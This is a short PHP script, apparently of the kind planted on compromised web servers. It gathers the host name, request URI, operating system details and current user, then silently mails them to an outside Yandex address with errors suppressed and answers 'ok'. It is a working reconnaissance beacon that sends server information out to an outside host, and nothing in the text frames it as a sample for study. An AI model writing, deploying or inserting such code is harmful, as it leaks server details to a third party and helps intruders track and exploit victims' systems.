<?php
$info = "Host: " . $_SERVER['HTTP_HOST'] . $_SERVER['REQUEST_URI'] . "\n";
$info .= "System: " . php_uname() . "\n";
$info .= "User: " . get_current_user() . "\n";
@mail("drop.box77@yandex.ru", "new", $info);
echo "ok";
